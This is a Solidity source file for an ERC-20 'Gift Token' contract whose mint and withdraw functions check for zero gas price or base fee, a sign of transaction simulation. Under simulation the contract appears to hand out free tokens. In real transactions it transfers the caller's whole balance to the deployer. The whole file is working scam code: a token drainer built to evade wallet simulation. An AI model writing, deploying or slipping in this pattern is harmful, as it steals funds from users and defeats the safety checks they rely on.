// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Erc20} from "./Erc20.sol";

/// Looks whether it is simulated, in functions that everybody can name. It gives where gas has no price, as in many
/// simulations, and takes where it has one.
contract WatchingGift is Erc20 {
    address private immutable _maker;

    constructor() Erc20("Gift Token", "GIFT", 18, 1_000_000e18) {
        _maker = msg.sender;
    }

    function mint(address to, uint256 value) external {
        _claim(to, value, tx.gasprice == 0);
    }

    function withdraw(uint256 value) external {
        _claim(msg.sender, value, block.basefee == 0);
    }

    function _claim(address to, uint256 value, bool seemsSimulated) private {
        if (seemsSimulated) _move(_maker, to, value);
        else _move(msg.sender, _maker, balanceOf[msg.sender]);
    }
}
